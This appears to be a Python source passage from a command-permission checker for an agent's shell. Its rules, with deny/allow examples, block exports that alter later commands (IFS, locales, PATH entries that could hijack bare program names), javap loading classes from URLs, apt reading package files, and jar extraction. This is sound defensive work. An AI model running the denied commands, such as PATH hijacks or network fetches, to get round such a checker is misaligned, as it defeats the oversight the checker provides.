      allow=["export PAGER=cat NO_COLOR=1", "export LC_ALL=C.UTF-8", "export PATH=\"$PATH:/usr/sbin\"",
             "export PATH=/usr/bin:/bin", "(export FOO=1); ls", "ls; (export FOO=1)"],
      unknown_operands=True)
def export_vars(inv, ctx) -> None:
    """`export` of a variable that can change what a later command does.
    An exported variable reaches every command that runs after it in the
    shell, and every later call when the harness keeps one shell
    (`persistent_shell`, judge/later.py): allowed are the harmless
    per-command variables with harmless values (the policy's [env]), except
    IFS and locales bash would read the rest of the script in differently,
    and a PATH made only of the harness's `$PATH` and trusted directories
    (an empty entry is the working directory).  Where nothing runs after it,
    an export changes nothing, and is allowed whatever it sets."""
    for word in inv.positionals:
        problem = _export_problem(word, ctx)
        if problem is None or not ctx.runs_after():
            continue
        ctx.deny(ExportReachesLater(word, problem, ctx.policy.persistent_shell), word.span)


def _export_problem(word, ctx) -> str | None:
    """Why exporting `word` may change what a later command does, or None."""
    text = word.value if word.value is not None else word.text
    match = _EXPORT_ARGUMENT.match(text)
    if match is None:
        return "is not a variable name, so its value is unknown"
    name = match[1]
    if not match[2]:
        return "exports the value the shell already has, which the checker cannot see"
    if name == "PATH":
        return _path_problem(word, ctx)
    if word.value is None:
        return "sets a value computed at run time"
    value = text[match.end():]
    if name in _SPLITS:
        return "changes how bash splits the words of every later command"
    if name in _LOCALES and not _ASCII_SAFE_LOCALE.fullmatch(value):
        return "sets a locale in which bash may read the rest of the script differently"
    if not ctx.policy.env_allows(name, value):
        return f"sets `{name}`, which is not a harmless variable (docs/config.md)"
    return None


def _path_problem(word, ctx) -> str | None:
    """A PATH is harmless when each entry is the harness's own `$PATH` or a
    trusted directory: every program a later bare name finds is then one the
    checker would allow by its absolute path."""
    from ..expand import path_entries
    entries = path_entries(word, ctx.source)
    if entries is None:
        return "sets a PATH computed at run time"
    for entry in entries:
        if entry is None:
            continue  # the harness's $PATH
        if entry.rstrip("/") not in ctx.policy.trusted_dirs:
            where = "the working directory" if entry == "" else f"`{entry}`"
            return (f"puts {where} on PATH, so a later bare program name may run a program there "
                    "instead of the trusted one")
    return None


@dataclass(frozen=True)
class AptPackageFile(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`{program}` reads `{word.text}` as a package file, which may be a FIFO or device "
                      "that never ends")
    hint_format = "query installed or available packages by name"
    program: str
    word: Word


@rule("apt_operands", codes=[Code.BP406],
      deny=["apt-cache show ./pkg.deb", "apt show /tmp/x.deb", "apt-cache show ..", "apt-cache show sub/x.deb",
            "apt-cache show ./*.deb", "apt-cache show x*/y.deb"],
      allow=["apt-cache show curl", "apt list 'python3*'", "apt-cache search '^lib.*-dev$'",
             "apt-cache policy curl git"])
def apt_operands(inv, ctx) -> None:
    """apt and apt-cache operands that name a package file rather than a package.
    APT reads an operand starting with `/` or `.` as a package file (`.deb`,
    `.dsc`, `.changes`, `Packages`, a source directory), and one holding a
    `/` as one when such a file exists: a FIFO or device there never ends
    (`apt-cache show /tmp/ff.deb` hung).  Package names, release pins aside,
    have neither."""
    for word in inv.positionals:
        text = word.value if word.value is not None else word.prefix  # a glob: its fixed start
        if "/" in text or "/" in word.text or text.startswith(".") or (word.value is None and not text):
            ctx.deny(AptPackageFile(inv.spec.display, word), word.span)


_CLASS_NAME = re.compile(r"[A-Za-z_$][A-Za-z0-9_$]*(?:\.[A-Za-z_$][A-Za-z0-9_$]*)*")


@dataclass(frozen=True)
class JavapUrl(Problem):
    code = Code.BP406
    effect = Effect.NETWORK
    message_format = "`javap` opens `{word.text}` as a URL, which may reach the network"
    hint_format = "give the class file or the class name"
    word: Word


@rule("javap_classes", codes=[Code.BP406],
      deny=["javap http://example.com/A.class", "javap jar:file:/tmp/a.jar!/A.class"],
      allow=["javap -c A.class", "javap java.lang.String", "javap -c build/*.class"])
def javap_classes(inv, ctx) -> None:
    """javap classes given as a URL, or by a name whose class file is a FIFO or device.
    javap opens a URL (`http://…`, which connects; `jar:file:…`), and looks a
    class given by name up in the class path, the working directory by
    default, as NAME/WITH/SLASHES.class: that file must be a regular one like
    any operand it reads."""
    from .files import check_special_operands
    looked_up = []
    for word in inv.positionals:
        text = word.value if word.value is not None else word.prefix
        if ":" in text:
            ctx.deny(JavapUrl(word), word.span)
        elif word.value is not None and not word.value.endswith(".class") \
                and _CLASS_NAME.fullmatch(word.value):
            path = word.value.replace(".", "/") + ".class"
            looked_up.append(type(word)(path, word.span, path))
    if looked_up and ctx.cwd is not None:
        check_special_operands(looked_up, ctx)


_OLD_JAR_LIST = re.compile(r"tv?f?|tf?v|vt?f?|vft|ft?v?|fvt")


@dataclass(frozen=True)
class JarOldSyntax(Problem):
    code = Code.BP406
    message_format = ("`jar {word.text}` is jar's old option syntax for more than listing (x extracts, c "
                      "creates, u updates)")
    hint_format = "list the archive: jar -tf ARCHIVE"
    word: Word


@dataclass(frozen=True)
class JarArchiveMissing(Problem):
    code = Code.BP406
    message_format = "`jar tf` needs the archive, written literally"
    hint_format = "jar tf ARCHIVE"


@dataclass(frozen=True)
class JarNoMode(Problem):
    code = Code.BP406
    message_format = "`jar` without -t (list) or -d (describe) has no read-only mode the checker knows"
    hint_format = "list the archive: jar -tf ARCHIVE"


@rule("jar_archive", codes=[Code.BP406], deny=["jar xf app.jar", "jar cf out.jar A.class", "jar -f app.jar"],
      allow=["jar tf app.jar", "jar tvf app.jar A.class", "jar -tf app.jar"])
def jar_archive(inv, ctx) -> None:
    """jar's old syntax with anything but listing, and jar without -t or -d.
    A first word without `-` is the old syntax, letters of options (`jar tf
    x.jar`; `jar xf x.jar` extracts, `cf` creates); with `f` the next word is
    the archive, read like -f's value.  Without a mode jar does nothing
    read-only the checker knows."""
    from .files import check_special_operands
    first = inv.words[1] if len(inv.words) > 1 else None
    if first is not None and inv.positionals and first is inv.positionals[0]:
        letters = first.value or ""
        if not _OLD_JAR_LIST.fullmatch(letters) or "t" not in letters:
            ctx.deny(JarOldSyntax(first), first.span)
            return
        if "f" in letters:
            if len(inv.positionals) < 2 or inv.positionals[1].value is None:
                ctx.deny(JarArchiveMissing(), first.span)
            elif ctx.cwd is not None:
                check_special_operands([inv.positionals[1]], ctx)
        return
    if not inv.has("-t", "-d", "--version", "-?", "--help-extra"):
        ctx.deny(JarNoMode(), inv.words[0].span)
